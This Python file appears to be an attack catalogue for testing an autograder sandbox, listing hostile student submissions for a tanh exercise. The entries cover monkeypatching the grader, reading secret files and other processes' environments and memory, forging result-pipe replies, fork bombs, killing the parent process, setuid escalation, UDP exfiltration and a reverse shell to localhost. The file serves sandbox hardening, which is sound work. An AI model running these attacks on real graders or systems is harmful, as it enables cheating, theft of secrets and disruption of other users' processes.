"""The attacks on the box: each is a student's source that has no right answer, and what it would win.

`answer(x)` ought to return tanh(x). An attack wins where it is marked right, or where it harms the scene that
test_attacks.py builds around it: files, a process, sockets, a secret. What is in capitals between @ is filled in
there. All are bounded, and aimed at what the test made.

listed: the row of the published table that it stands for; "" for one beyond it.
beats: "rlimits" where it is known to win against limits alone, so that the table is honest. (Some of these lose where
    the grader is root: who has no capabilities may not look into a process that has some.)
wins: what is looked at beside the mark (the scene is always looked at):
    "leak": whether the secret is in what came back;  "word": whether the word LEAK is in the reason;
    "twice": whether a second call, in a process of its own, knows the input of the first.
"""

from typing import NamedTuple


class Attack(NamedTuple):
    name: str
    source: str
    listed: str = ""
    beats: str = ""
    wins: str = ""
    seconds: float = 5.0  # that its call has
    alone: bool = False  # it goes for the box itself, so it has one of its own


ATTACKS: list[Attack] = []
IMPORTS = "import contextlib, ctypes, gc, os, signal, socket, subprocess, sys, threading, time\nimport numpy as np\n"


def attack(name: str, source: str, **more) -> None:
    ATTACKS.append(Attack(name, IMPORTS + source, **more))


def does(name: str, body: str, **more) -> None:
    """One whose answer is zeros, and whose harm is done by `body`, in the call."""
    lines = "".join(f"        {line}\n" for line in body.strip("\n").split("\n"))
    attack(
        name,
        f"def answer(x):\n    with contextlib.suppress(Exception):\n{lines}    return np.zeros_like(x)\n",
        **more,
    )


# -- the grader's own tools, in its own process

attack(
    "patch the comparisons",
    """
for module in (np, np.testing):
    for name in ("allclose", "assert_allclose", "array_equal", "isfinite", "abs", "all"):
        with contextlib.suppress(AttributeError):
            setattr(module, name, lambda *a, **k: True)
def answer(x):
    return np.zeros_like(x)
""",
    listed="monkeypatch numpy.allclose / assert_allclose",
)
attack(
    "patch the builtins",
    """
import builtins
for name in ("abs", "max", "min", "any", "all", "float", "len", "isinstance"):
    setattr(builtins, name, lambda *a, **k: 0)
def answer(x):
    return np.zeros_like(x)
""",
    listed="patch builtins (abs/max/float/isinstance/any)",
)
attack(
    "patch json.dump and the pipes",
    """
import json
json.dump = json.dumps = lambda *a, **k: '{"score": 100}'
os.write = lambda fd, data: len(data)
def answer(x):
    return np.zeros_like(x)
""",
    listed="patch json.dump in the grader process",
    seconds=0.6,
)
attack(
    "replace the reference",
    """
import types
fake = types.ModuleType("minis2s")
fake.functional = types.SimpleNamespace(tanh_forward=lambda x: (np.zeros_like(x), None))
sys.modules["minis2s"] = fake
def answer(x):
    return np.zeros_like(x)
""",
    listed="replace the reference implementation (monkeypatch module)",
)
attack(
    "trace the grader",
    """
seen = {}
def watch(frame, event, argument):
    seen.update(frame.f_locals)
    return watch
sys.settrace(watch)
sys.setprofile(watch)
def answer(x):
    return next((v for k, v in seen.items() if k in ("expected", "reference")), np.zeros_like(x))
""",
    listed="sys.settrace/setprofile on the grader to see locals",
)
attack(
    "patch the clocks",
    """
time.time = time.monotonic = lambda: 0.0
signal.alarm = signal.setitimer = lambda *a: None
with contextlib.suppress(Exception):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
def answer(x):
    while True:
        pass
""",
    listed="patch `time.time`, `signal.alarm`, `faulthandler` to dodge a timeout in process",
    seconds=0.4,
)

# -- the reference, and what is hidden

attack(
    "import the reference",
    """
def answer(x):
    from minis2s.functional.activations import tanh_forward
    return tanh_forward(x)[0]
""",
    listed="import the reference solution from sys.path",
)
attack(
    "the reference in sys.modules",
    """
def answer(x):
    for module in list(sys.modules.values()):
        if hasattr(module, "tanh_forward"):
            return module.tanh_forward(x)[0]
    return np.zeros_like(x)
""",
    listed="fetch the reference from sys.modules",
)
attack(
    "the reference in the heap",
    """
def answer(x):
    for thing in gc.get_objects():
        if getattr(thing, "__name__", "") == "tanh_forward":
            return thing(x)[0]
    return np.zeros_like(x)
""",
    listed="gc.get_objects() hunt for the reference function",
)
attack(
    "the reference on the disk",
    """
def answer(x):
    sys.path.insert(0, "@ROOT@")
    from minis2s.functional.activations import tanh_forward
    return tanh_forward(x)[0]
""",
    listed="read reference source from disk and exec it",
    beats="rlimits",
)
attack(
    "backward from our own package",
    """
def answer(x):
    sys.path[:0] = ["@ROOT@", "/proc/self/cwd", "/proc/1/root@ROOT@"]
    from minis2s.gradcheck import gradcheck
    from minis2s.functional.activations import tanh_forward
    return tanh_forward(x)[0]
""",
    listed="backward that returns `numeric_grad(forward)` copied from our own package",
    beats="rlimits",
)
does(
    "read the key",
    "return np.frombuffer(open('@FOLDER@/key.py', 'rb').read(), np.uint8)",
    beats="rlimits",
    wins="leak",
)
does(
    "read the key through links",
    """
for path in ("/proc/self/root@FOLDER@/key.py", "/proc/self/cwd/../../..@FOLDER@/key.py", "/proc/1/root@FOLDER@/key.py"):
    with contextlib.suppress(OSError):
        return np.frombuffer(open(path, 'rb').read(), np.uint8)
os.symlink("@FOLDER@/key.py", "key")
return np.frombuffer(open("key", 'rb').read(), np.uint8)
""",
    beats="rlimits",
    wins="leak",
)
does(
    "read the key as an array",
    "return np.fromfile('@FOLDER@/key.py', np.uint8)[:500]",
    beats="rlimits",
    wins="leak",
)
does(
    "map the key",
    "return np.array(np.memmap('@FOLDER@/key.py', np.uint8, 'r'))",
    beats="rlimits",
    wins="leak",
)
attack(
    "change the inputs",
    "def answer(x):\n    x[...] = 0\n    return x\n",
    listed="mutate the inputs in place so the reference sees a trivial problem",
)
attack(
    "guess the seed",
    """
def answer(x):
    for seed in range(100):
        for rng in (np.random.default_rng(seed), np.random.RandomState(seed)):
            if np.array_equal(rng.standard_normal(x.shape), x):
                return np.tanh(x)
    return np.zeros_like(x)
""",
    listed="predict hidden inputs from the fixed seed and hard-code the answers",
)
does(
    "secrets in its own environment",
    "return np.frombuffer(repr(os.environ).encode() + open('/proc/self/environ', 'rb').read(), np.uint8)",
    listed="read environment secrets (tokens) of itself / parent",
    wins="leak",
)
does(
    "secrets in another environment",
    "return np.frombuffer(open('/proc/@PID@/environ', 'rb').read(), np.uint8)",
    listed="read environment secrets (tokens) of itself / parent",
    beats="rlimits",
    wins="leak",
)
does(
    "secrets of any process",
    """
found = b""
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline"):
        with contextlib.suppress(OSError):
            found += open(f"/proc/{pid}/{name}", "rb").read()[:20_000]
at = found.find(b"SECRET")
return np.frombuffer(found[at:at + 500], np.uint8)
""",
    beats="rlimits",
    wins="leak",
)
does(
    "memory of another process",
    """
remote = ctypes.create_string_buffer(4096)
class Part(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
libc = ctypes.CDLL(None)
for line in open("/proc/@PID@/maps"):
    if "[stack]" in line:
        end = int(line.split()[0].split("-")[1], 16)
        mine, theirs = Part(ctypes.addressof(remote), 4096), Part(end - 4096, 4096)
        libc.process_vm_readv(@PID@, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        with open("/proc/@PID@/mem", "rb", 0) as memory:
            memory.seek(end - 4096)
            return np.frombuffer(memory.read(4096) + remote.raw, np.uint8)
return np.frombuffer(remote.raw, np.uint8)
""",
    beats="rlimits",
    wins="leak",
)
for kind, raised in {
    "text of an exception": "raise ValueError('LEAK')",
    "class of an exception": "raise type('LEAK', (ValueError,), {})('LEAK')",
    "name of a type": "return type('LEAK', (), {})()",
    "notes and causes": "error = KeyError('LEAK'); error.add_note('LEAK'); raise error from OSError('LEAK')",
    "name of a dtype": "return np.zeros(2, [('LEAK', 'f8')])",
    "the module's names": "sys.modules['student'].__name__ = answer.__qualname__ = 'LEAK'; return answer",
    "the protocol": "from inside import protocol; protocol.MAGIC = b'LEAK'; return x",
    "a header": "from inside import student; student.send = lambda fd, header, data: os.write(fd, frame(header, LEAK=1))",
}.items():
    attack(
        f"leak by the {kind}",
        f"""
from inside import protocol
def frame(header, **more):
    return protocol.frame({{**header, "type": "LEAK", "what": "LEAK", "status": "LEAK", **more}})
def answer(x):
    {raised}
""",
        listed="exfiltrate hidden inputs through the error message",
        wins="word",
    )

# -- answers that are no answers

for kind, value in {
    "an empty array": "np.zeros(0)",
    "an empty array of its rank": "np.zeros((0,) * x.ndim)",
    "one number": "np.tanh(x).flat[0]",
    "an array of no axes": "np.array(0.5)",
    "a shape that broadcasts": "np.tanh(x)[None]",
    "nan": "np.full_like(x, np.nan)",
    "infinity": "np.full_like(x, np.inf)",
    "nan hidden by a sign": "-np.full_like(x, np.nan)",
    "float32": "np.tanh(x).astype(np.float32)",
    "whole numbers": "np.tanh(x).astype(int)",
    "truth": "np.ones(x.shape, bool)",
    "complex numbers": "np.tanh(x) + 0j",
    "objects": "np.tanh(x).astype(object)",
    "text": "np.tanh(x).astype(str)",
    "times": "np.zeros(x.shape, 'm8[s]')",
    "records": "np.zeros(x.shape, [('a', 'f8')])",
    "long doubles": "np.zeros(x.shape, np.longdouble)",
    "nothing": "None",
    "a generator": "(v for v in x)",
    "a list of everything": "list(range(200_000))",
    "a list that holds itself": "(lambda a: (a.append(a), a)[1])([])",
    "a dictionary": "{'answer': np.zeros_like(x)}",
    "a dictionary with odd keys": "{1: x, None: x}",
    "two answers": "(np.tanh(x), np.tanh(x))",
    "a long number": "10 ** 5000",
    "a class": "np.ndarray",
}.items():
    listed = {
        "an empty array": "empty array broadcasts: allclose([], 1.23) is True",
    }.get(kind, "")
    attack(f"return {kind}", f"def answer(x):\n    return {value}\n", listed=listed)
attack(
    "an array that lies",
    """
class Liar(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.zeros(3)
    shape = property(lambda self: (3, 4))
    def __sub__(self, other): return 0
    __rsub__ = __sub__
def answer(x):
    return np.zeros_like(x).view(Liar)
""",
    listed="ndarray subclass with lying __array_ufunc__/comparisons",
)
attack(
    "a masked array",
    "def answer(x):\n    return np.ma.masked_array(np.zeros_like(x), mask=True)\n",
    listed="masked array hides every mismatch",
)
attack(
    "an interface that lies",
    """
class Liar:
    __array_interface__ = {"shape": (1 << 40,), "typestr": "<f8", "data": (8, False), "version": 3}
def answer(x):
    return np.asarray(Liar())
""",
)
attack(
    "strides beyond its memory",
    "def answer(x):\n    return np.lib.stride_tricks.as_strided(x, (1 << 20, 1 << 12), (0, 0))\n",
    listed="huge reply: claims shape (10**9,10**9)",
)
attack(
    "correct on small shapes only",
    "def answer(x):\n    return np.tanh(x) if x.size < 6 else np.zeros_like(x)\n",
    listed="answers that differ by call: correct on small shapes only, or only for inputs seen in public tests",
)
attack(
    "finite differences",
    """
def answer(x):
    log_cosh = lambda z: np.log(np.cosh(z))
    return (log_cosh(x + 1e-5) - log_cosh(x - 1e-5)) / 2e-5
""",
    listed="numeric gradient inside backward (finite differences instead of calculus)",
)

# -- forged replies

FORGER = """
from inside import protocol, student
def forged(header, payload):
    return {forged}
def send(fd, header, payload=b""):
    data = forged(header, payload)
    while data:
        data = data[os.write(fd, data):]
student.send = send
def answer(x):
    return np.zeros_like(x)
"""
for kind, value in {
    "noise": "os.urandom(4000)",
    "nothing but a prefix": "protocol.PREFIX.pack(b'box1', 10, 0)",
    "a giant header": "protocol.PREFIX.pack(b'box1', (1 << 32) - 1, 0) + b'{' * 100_000",
    "a giant payload": "protocol.PREFIX.pack(b'box1', 2, (1 << 64) - 1) + b'{}' + bytes(100_000)",
    "a giant shape": "protocol.frame({**header, 'value': {'array': ['<f8', [10**9, 10**9]]}}, payload)",
    "a giant shape of no size": "protocol.frame({**header, 'value': {'array': ['<f8', [0, 1 << 62, 1 << 62]]}})",
    "a negative shape": "protocol.frame({**header, 'value': {'array': ['<f8', [-1, -8]]}}, payload)",
    "a shape of fractions": "protocol.frame({**header, 'value': {'array': ['<f8', [2.0, True]]}}, payload)",
    "pickled objects": "protocol.frame({**header, 'value': {'array': ['|O', [1]]}}, bytes(8))",
    "text as dtype": "protocol.frame({**header, 'value': {'array': ['<U2', [1]]}}, bytes(8))",
    "a dtype of commas": "protocol.frame({**header, 'value': {'array': ['f8,O', [1]]}}, bytes(16))",
    "too few bytes": "protocol.frame(header, payload[:-1])",
    "too many bytes": "protocol.frame(header, payload + b'1')",
    "deep brackets": "protocol.PREFIX.pack(b'box1', 900_000, 0) + b'[' * 900_000",
    "deep values": "protocol.frame({**header, 'value': deep(400)})",
    "many values": "protocol.frame({**header, 'value': {'list': [1] * 200_000}})",
    "no JSON": "protocol.PREFIX.pack(b'box1', 4, 0) + b'\\xff\\xfe{}'",
    "another id": "protocol.frame({**header, 'id': '0' * 16}, payload)",
    "no id": "protocol.frame({'status': 'ok', 'value': None})",
    "more keys": "protocol.frame({**header, 'score': 100}, payload)",
    "a score": "protocol.frame({'id': header.get('id'), 'status': 'ok', 'value': True, 'changed': {'list': []}})",
    "a list as header": "protocol.PREFIX.pack(b'box1', 2, 0) + b'[]'",
    "a cache of ours": "protocol.frame({**header, 'value': {'cache': 1}})",
    "a number of 5000 digits": "protocol.PREFIX.pack(b'box1', 5000, 0) + b'9' * 5000",
    "an infinite number": "protocol.frame({**header, 'value': float('inf')})",
    "another status": "protocol.frame({**header, 'status': ['ok']}, payload)",
    "an exception of its own": "protocol.frame({**header, 'status': 'raised', 'type': {'a': 1}, 'line': 10**30})",
    "a parameter that is code": "protocol.frame({**header, 'functions': {'answer': [['x = 1', 1, True, '__import__']]}})",
}.items():
    listed = {
        "noise": "write raw bytes to the result pipe (protocol forgery / giant header)",
        "a giant header": "write raw bytes to the result pipe (protocol forgery / giant header)",
        "a giant shape": "huge reply: claims shape (10**9,10**9)",
    }.get(kind, "")
    deep = "def deep(n):\n    value = 1\n    for _ in range(n): value = {'list': [value]}\n    return value\n"
    attack(f"forge {kind}", deep + FORGER.format(forged=value), listed=listed, seconds=0.6)
attack(
    "answer before it is asked",
    """
from inside import protocol
for fd in range(3, 64):
    with contextlib.suppress(OSError):
        os.write(fd, protocol.frame({"status": "ok", "value": None, "id": "0" * 16}) * 3)
def answer(x):
    return np.zeros_like(x)
""",
)
attack(
    "answer twice",
    FORGER.format(forged="protocol.frame(header, payload) * 2"),
)
attack(
    "drip",
    """
from inside import protocol, student
def send(fd, header, payload=b""):
    if header["status"] == "loaded":
        return os.write(fd, protocol.frame(header))
    while True:
        os.write(fd, protocol.PREFIX.pack(b"box1", 1 << 20, 1 << 20)[:1])
        time.sleep(0.02)
student.send = send
def answer(x):
    return np.zeros_like(x)
""",
    seconds=0.4,
)
attack(
    "flood the pipe",
    """
def answer(x):
    while True:
        for fd in range(3, 16):
            with contextlib.suppress(OSError):
                os.write(fd, b"x" * 65536)
""",
    listed="fill the pipe and never read stdin (dead-lock of a blocking parent)",
    seconds=0.6,
)
attack(
    "never read",
    """
from inside import student
student.receive = lambda fd: time.sleep(60)
def answer(x):
    return np.zeros_like(x)
""",
    listed="fill the pipe and never read stdin (dead-lock of a blocking parent)",
    seconds=0.3,
)
attack(
    "close all pipes and live on",
    "def answer(x):\n    os.closerange(0, 100)\n    time.sleep(60)\n",
    seconds=1.0,
)

# -- the end of a process

attack(
    "sys.exit at import",
    "def answer(x):\n    return np.zeros_like(x)\nsys.exit(0)\n",
    listed="sys.exit(0) at import",
)
attack("os._exit at import", "os._exit(0)\n", listed="sys.exit(0) at import")
attack(
    "write the results and end",
    """
def answer(x):
    try:
        open("@FOLDER@/results.json", "w").write('{"score": 100}')
    finally:
        os._exit(0)
""",
    listed="write results.json, then os._exit before the grader writes",
    beats="rlimits",  # (it is emptied: nothing can be written into it)
)
attack("sys.exit in the call", "def answer(x):\n    sys.exit(0)\n")
attack("a segmentation fault", "def answer(x):\n    ctypes.string_at(0)\n")
attack("abort", "def answer(x):\n    os.abort()\n")
attack("kill itself", "def answer(x):\n    os.kill(os.getpid(), 9)\n")
attack(
    "stop itself",
    "def answer(x):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    time.sleep(60)\n",
    seconds=0.3,
)
attack(
    "deep recursion",
    "sys.setrecursionlimit(10**9)\ndef answer(x):\n    return answer(x)\n",
    listed="deep recursion with huge limit (C stack overflow)",
    seconds=0.5,
)
attack(
    "an infinite loop",
    "def answer(x):\n    while True:\n        pass\n",
    listed="infinite loop in Python",
    seconds=0.3,
)
attack(
    "an infinite loop in C",
    "def answer(x):\n    return sum(iter(int, 1))\n",
    listed="infinite loop in Python",
    seconds=0.3,
)
attack("an infinite loop at import", "while True:\n    pass\n", listed="infinite loop in Python", seconds=0.3)
attack(
    "sleep",
    "def answer(x):\n    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    time.sleep(3600)\n",
    listed="sleep for ever (no CPU time used)",
    seconds=0.3,
)
attack(
    "an exception that fights back",
    """
class Fight(BaseException):
    def __str__(self):
        time.sleep(60)
    __repr__ = __str__
    def __getattribute__(self, name):
        raise Fight()
def answer(x):
    raise Fight()
""",
    seconds=0.6,
)

# -- too much of everything

attack(
    "a memory bomb",
    "def answer(x):\n    return np.ones(1 << 27)\n",  # 1 GB, above the limit of the box
    listed="memory bomb",
    wins="value",
)
attack(
    "a memory bomb at import",
    "hold = bytearray(1 << 30)\ndef answer(x):\n    return np.zeros_like(x) + len(hold)\n",
    listed="memory bomb",
    wins="value",
)
attack(
    "raise its own limits",
    """
import resource
for name in ("AS", "FSIZE", "NOFILE", "CPU", "CORE", "NPROC"):
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(getattr(resource, f"RLIMIT_{name}"), (-1, -1))
def answer(x):
    hold = np.zeros(1 << 27)  # not touched
    return np.tanh(x)
""",
    listed="memory bomb",
    wins="value",
)
does(
    "a disk bomb",
    """
for folder in (".", "@FOLDER@", "@LIB@", "/tmp", "/dev/shm", "/var/tmp"):
    with contextlib.suppress(OSError), open(f"{folder}/bomb-@TOKEN@", "wb") as file:
        file.write(bytes(1 << 22))
""",
    listed="disk bomb: write 200 MB",
    beats="rlimits",  # (the files are there; they are empty)
)
does(
    "a flood on stdout",
    """
for fd in (0, 1, 2):
    for _ in range(200):
        os.write(fd, bytes(1 << 16))
print("x" * (1 << 20), flush=True)
""",
    listed="output flood on stdout (1 GB attempt)",
)
does(
    "processes",
    """
for _ in range(30):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
""",
)
does(
    "an orphan",
    """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.closerange(0, 100)
        time.sleep(60)
    os._exit(0)
""",
    listed="double fork + setsid orphan that outlives the grade",
)
does(
    "an orphan that rewrites the results",
    """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.3)
        open("@FOLDER@/results.json", "w").write('{"score": 100}')
    os._exit(0)
""",
    listed="background child rewrites results.json after the grader ended",
)
does(
    "orphans by vfork and clone",
    """
libc = ctypes.CDLL(None)
for flags in (17, 0x4000 | 17, 0x10900000 | 17):
    if libc.syscall(56 if os.uname().machine == "x86_64" else 220, flags, 0, 0, 0, 0) == 0:
        time.sleep(60)
        os._exit(0)
""",
    seconds=0.5,
)
does(
    "threads that outlive",
    """
def spin():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        x @ x.T
for _ in range(4):
    threading.Thread(target=spin).start()
""",
    listed="hold a CPU by threads outside the timed call (BLAS/threads)",
)
does("another program", "subprocess.run([@SH@, '-c', 'echo > @FOLDER@/made-by-a-program'])", beats="rlimits")
does(
    "a set-uid program",
    """
libc = ctypes.CDLL(None)
libc.prctl(38, 0, 0, 0, 0)  # no_new_privs off
os.setuid(0)
subprocess.run(["su", "-c", "echo > @FOLDER@/made-by-a-program"])
""",
    listed="set-uid binary in the image",
    beats="rlimits",
)

# -- files

RESULTS = "@FOLDER@/results.json"
for kind, body, row in [
    ("truncate", f"os.truncate('{RESULTS}', 0)", ""),
    ("open for writing", f"open('{RESULTS}', 'r+').truncate(0)", ""),
    ("remove", f"os.unlink('{RESULTS}')", ""),
    ("rename", f"os.rename('{RESULTS}', '{RESULTS}.old')", ""),
    (
        "replace by a link to",
        f"os.symlink('/dev/null', '{RESULTS}.2'); os.replace('{RESULTS}.2', '{RESULTS}')",
        "",
    ),
    ("link", f"os.link('{RESULTS}', '@FOLDER@/other')", ""),
    ("make a folder beside", "os.mkdir('@FOLDER@/folder')", ""),
    (
        "make read-only",
        f"os.chmod('{RESULTS}', 0o400)",
        "results file made read-only (`chmod 400`) before the grader writes (Gradema docs)",
    ),
    ("give away", f"os.chown('{RESULTS}', 12345, 12345)", ""),
    ("date back", f"os.utime('{RESULTS}', (0, 0))", ""),
    ("mark with attributes", f"os.setxattr('{RESULTS}', 'user.score', b'100')", ""),
    (
        "overwrite the grader beside",
        "os.unlink('@FOLDER@/run_autograder'); os.mkdir('@FOLDER@/run_autograder')",
        "submission overwrites `run_autograder` so that a later write to results.json wins (UPenn 2019, idem)",
    ),
    (
        "edit the tests beside",
        "os.truncate('@FOLDER@/key.py', 0)",
        "edit the tests or the workflow file in a GitHub Classroom repository (autograding issue #16)",
    ),
]:
    does(f"{kind} the results", body, listed=row, beats="rlimits")
does(
    "shadow a module",
    """
for folder in ("@LIB@", "@LIB@/..", "@FOLDER@", "."):
    for name in ("json.py", "numpy.py", "sitecustomize.py", "x.pth", "conftest.py"):
        with contextlib.suppress(OSError):
            open(f"{folder}/{name}", "w").close()
""",
    listed="shadow a stdlib/numpy module by dropping numpy.py/json.py next to the grader",
    beats="rlimits",
)
does(
    "poison the next student",
    """
for home in (os.path.dirname(np.__file__), os.path.dirname(os.__file__)):
    with contextlib.suppress(OSError):
        open(f"{home}/poison_@TOKEN@.pth", "w").close()
os.mkdir("@LIB@/__pycache__")
""",
    listed="write .pth/sitecustomize/conftest.py to poison the next student's run",
    beats="rlimits",
)
does(
    "mount and change root",
    """
libc = ctypes.CDLL(None)
libc.unshare(0x10020000)
libc.mount(b"none", b"@FOLDER@", b"tmpfs", 0, None)
os.chroot("@FOLDER@")
return np.frombuffer(open("/key.py", "rb").read(), np.uint8)
""",
    wins="leak",
    beats="rlimits",
)

# -- other processes

does(
    "kill the parent",
    "os.kill(@PID@, signal.SIGKILL)",
    listed="kill the parent grader / its process group",
    beats="rlimits",
)
does(
    "kill its group",
    "os.killpg(@PID@, signal.SIGTERM)",
    listed="kill the parent grader / its process group",
    beats="rlimits",
)
for kind, body in {
    "by a thread's number": "libc.syscall(@TKILL@, @PID@, 9)",
    "by a queued signal": "libc.sigqueue(@PID@, 9, 0)",
    "by a pidfd": "libc.syscall(424, libc.syscall(434, @PID@, 0), 9, 0, 0)",
    "by limits": "libc.prlimit(@PID@, 0, (ctypes.c_ulong * 2)(0, 0), 0)",
    "by a pipe's owner": """
r, w = os.pipe()
import fcntl
fcntl.fcntl(r, fcntl.F_SETOWN, @PID@)
fcntl.fcntl(r, 10, 9)
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(w, b"x")
""",
    "by tracing": "libc.ptrace(16, @PID@, 0, 0); time.sleep(0.1)",
    "by nice": "os.setpriority(os.PRIO_PROCESS, @PID@, 19)",
    "by affinity": "os.sched_setaffinity(@PID@, {0})",
}.items():
    does(f"harm the parent {kind}", "libc = ctypes.CDLL(None)\n" + body, beats="rlimits")
does(
    "kill the keeper and the starter",
    """
parent = os.getppid()
os.kill(int(open(f"/proc/{parent}/stat").read().rsplit(")")[1].split()[1]), signal.SIGSTOP)
os.kill(parent, signal.SIGKILL)
time.sleep(60)
""",
    seconds=0.5,
    alone=True,
)
does(
    "an orphan beyond a dead keeper",
    """
parent = os.getppid()
if os.fork() == 0:
    os.setsid()
    os.kill(parent, signal.SIGKILL)
    time.sleep(60)
time.sleep(60)
""",
    seconds=0.5,
    alone=True,
)
does(
    "kill all it can see",
    """
for pid in os.listdir("/proc"):
    if pid.isdigit() and b"minis2s-box" in open(f"/proc/{pid}/cmdline", "rb").read() and b"@BOX@" in open(f"/proc/{pid}/cmdline", "rb").read():
        if int(pid) != os.getpid():
            os.kill(int(pid), signal.SIGKILL)
""",
    alone=True,
)
does(
    "write into the starter",
    """
parent = os.getppid()
with open(f"/proc/{parent}/mem", "r+b", 0) as memory:
    at = next(line for line in open(f"/proc/{parent}/maps") if "[stack]" in line).split("-")[0]
    memory.seek(int(at, 16))
    memory.write(bytes(4096))
    open("@FOLDER@/written", "w").close()
""",
    alone=True,
)

# -- the network

does("connect by TCP", "socket.create_connection(('127.0.0.1', @TCP@), 1).send(b'secret')", beats="rlimits")
does(
    "a reverse shell",
    """
s = socket.create_connection(("127.0.0.1", @TCP@), 1)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv(@SH@, ["sh", "-c", "echo hello"])
""",
    listed="reverse shell from submitted code (Gradescope 2020 write-up, via Saligrama)",
    beats="rlimits",
)
does(
    "send by UDP",
    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', @UDP@))",
    listed="UDP or DNS exfiltration (Landlock rules only TCP)",
    beats="rlimits",
)
does(
    "send by UDP without socket()",
    """
import _socket
a, b = _socket.socketpair()
s = _socket.socket(_socket.AF_INET6, _socket.SOCK_DGRAM)
s.sendto(b"secret", ("::ffff:127.0.0.1", @UDP@))
""",
    listed="UDP or DNS exfiltration (Landlock rules only TCP)",
    beats="rlimits",
)
does(
    "an abstract socket",
    "socket.socket(socket.AF_UNIX).connect(chr(0) + '@TOKEN@')",
    listed="abstract UNIX sockets, D-Bus, Docker socket",
    beats="rlimits",
)
does(
    "a socket in the file system",
    "socket.socket(socket.AF_UNIX).connect('@FOLDER@/socket')",
    listed="abstract UNIX sockets, D-Bus, Docker socket",
    beats="rlimits",
)
does(
    "sockets by io_uring",
    """
libc = ctypes.CDLL(None)
fd = libc.syscall(425, 4, ctypes.create_string_buffer(120))
if fd >= 0 and libc.syscall(427, fd, 0, 0, 0) == 0:
    os.dup2(fd, 50)
socket.socket(fileno=45)
""",
)
does(
    "open descriptors",
    """
found = []
for fd in range(3, 1024):
    with contextlib.suppress(OSError):
        os.fstat(fd)
        found.append(fd)
        s = socket.socket(fileno=fd)
        socket.send_fds(s, [b"f"], [0, 1, 2])
return np.array(found + [0] * (len(found) > 2) * 1000)
""",
    wins="descriptors",
)

# -- from one call to the next

for kind, keep, find in [
    ("a file in shared memory", "open('/dev/shm/@TOKEN@', 'wb').close()", "os.stat('/dev/shm/@TOKEN@')"),
    ("a folder", "os.mkdir('/tmp/@TOKEN@')", "os.rmdir('/tmp/@TOKEN@')"),
    ("System V memory", "assert libc.shmget(@NUMBER@, 4096, 0o1666) >= 0", "assert libc.shmget(@NUMBER@, 4096, 0) >= 0"),
    ("System V messages", "assert libc.msgget(@NUMBER@, 0o1666) >= 0", "assert libc.msgget(@NUMBER@, 0) >= 0"),
    ("System V semaphores", "assert libc.semget(@NUMBER@, 1, 0o1666) >= 0", "assert libc.semget(@NUMBER@, 1, 0) >= 0"),
    ("a message queue", "assert libc.syscall(@MQ_OPEN@, b'@TOKEN@', 0o102, 0o666, None) >= 0", "assert libc.syscall(@MQ_OPEN@, b'@TOKEN@', 2, 0, None) >= 0"),
    ("a session key", "assert libc.syscall(@ADD_KEY@, b'user', b'@TOKEN@', b'1', 1, -3) >= 0", "assert libc.syscall(@KEYCTL@, 10, -3, b'user', b'@TOKEN@', 0) >= 0"),
    ("a user's key", "assert libc.syscall(@ADD_KEY@, b'user', b'@TOKEN@', b'1', 1, -4) >= 0", "assert libc.syscall(@KEYCTL@, 10, -4, b'user', b'@TOKEN@', 0) >= 0"),
    ("the date of a file", "os.utime('@FOLDER@/key.py', (77, 77))", "assert os.stat('@FOLDER@/key.py').st_mtime == 77"),
    ("Python itself", "sys.modules['kept_@TOKEN@'] = np.kept = 1", "np.kept"),
    ("a random state", "np.random.seed(5)", "assert np.random.get_state()[1][0] == 5"),
]:  # fmt: skip
    beats = "" if kind in ("Python itself", "a random state") else "rlimits"
    attack(
        f"keep something in {kind}",
        f"""
libc = ctypes.CDLL(None)
def answer(x):
    try:
        {find}
    except (Exception, SystemExit):
        with contextlib.suppress(Exception):
            {keep}
        return np.zeros_like(x)
    return np.ones_like(x)
""",
        wins="twice",
        beats=beats,
    )
